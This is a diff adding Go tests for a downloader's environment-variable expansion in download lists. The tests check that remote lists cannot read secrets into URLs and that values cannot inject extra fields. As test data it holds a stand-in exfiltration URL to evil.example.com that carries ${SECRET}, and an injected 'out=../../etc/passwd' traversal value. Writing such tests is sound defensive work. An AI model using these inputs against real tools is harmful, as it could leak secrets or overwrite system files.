@@ -0,0 +1,96 @@
+package downloader
+
+import (
+	"context"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestExpandFields(t *testing.T) {
+	t.Setenv("HOST", "https://stage.example.com")
+	t.Setenv("SECRET", "s3cr3t")
+	t.Setenv("SPACED", "x.bin out=../../etc/passwd")
+
+	scan := func(d *Downloader, local bool, list string) ([]string, error) {
+		var entries []string
+		read := d.ScanList
+		if local {
+			read = d.ScanLocalList
+		}
+		err := read(context.Background(), strings.NewReader(list), "list", nil, func(e string) error {
+			entries = append(entries, e)
+			return nil
+		})
+		return entries, err
+	}
+
+	d := New(http.DefaultClient)
+	d.ExpandEnv = true
+	// A list of the user's own expands any variable, in the entry and its
+	// mirrors, but not in its fields.
+	entries, err := scan(d, true, "${HOST}/a.bin ${HOST:-x}/mirror/a.bin out=${SECRET}.bin\n")
+	if err != nil || !slices.Equal(entries, []string{"https://stage.example.com/a.bin"}) {
+		t.Fatalf("got %q, %v", entries, err)
+	}
+	if mirrors := d.MirrorsOf(entries[0]); !slices.Equal(mirrors, []string{"https://stage.example.com/mirror/a.bin"}) {
+		t.Errorf("mirrors %q", mirrors)
+	}
+	if meta, _ := d.Meta(entries[0]); meta.Output != "${SECRET}.bin" {
+		t.Errorf("out=%q, want it as written", meta.Output)
+	}
+
+	// A value cannot add fields to the line it lands in.
+	entries, err = scan(d, true, "https://example.com/${SPACED}\n")
+	if err != nil || len(entries) != 0 {
+		t.Errorf("got %q, %v; want the entry skipped", entries, err)
+	}
+
+	// A served list cannot read the environment into a URL, unless the
+	// variable is allowed.
+	leak := "https://evil.example.com/?k=${SECRET}\n"
+	if entries, err = scan(d, false, leak); err == nil || !strings.Contains(err.Error(), "-expand-env-var SECRET") {
+		t.Errorf("got %q, %v; want ${SECRET} refused", entries, err)
+	}
+	d.EnvAllow = []string{"HOST"}
+	if entries, err = scan(d, false, leak); err == nil {
+		t.Errorf("got %q; want ${SECRET} refused with only HOST allowed", entries)
+	}
+	if entries, err = scan(d, false, "${HOST}/b.bin\n"); err != nil || !slices.Equal(entries, []string{"https://stage.example.com/b.bin"}) {
+		t.Errorf("got %q, %v; want ${HOST} expanded", entries, err)
+	}
+
+	// Without -expand-env, nothing is.
+	d = New(http.DefaultClient)
+	d.Schemes = []string{"https"}
+	if entries, _ = scan(d, true, "https://example.com/${SECRET}\n"); !slices.Equal(entries, []string{"https://example.com/$%7BSECRET%7D"}) {
+		t.Errorf("got %q", entries)
+	}
+}
+
+func TestStrictEnv(t *testing.T) {
+	t.Setenv("HOST", "https://example.com")
+	d := New(http.DefaultClient)
+	d.StrictEnv = true
+	for _, tc := range []struct {
+		line string
+		want string
+	}{
+		{"${HOST}/a", "https://example.com/a"},
+		{"${UNSET_GOCAT_VAR:-https://default.example.com}/a", "https://default.example.com/a"},
+		{"${UNSET_GOCAT_VAR}/a", ""},
+	} {
+		var got string
+		err := d.ScanLocalList(context.Background(), strings.NewReader(tc.line), "list", nil, func(e string) error {
+			got = e
+			return nil
+		})
+		switch {
+		case tc.want == "" && err == nil:
+			t.Errorf("%q: got %q, want an error for the unset variable", tc.line, got)
+		case tc.want != "" && (err != nil || got != tc.want):
+			t.Errorf("%q: got %q, %v; want %q", tc.line, got, err, tc.want)
+		}
+	}
+}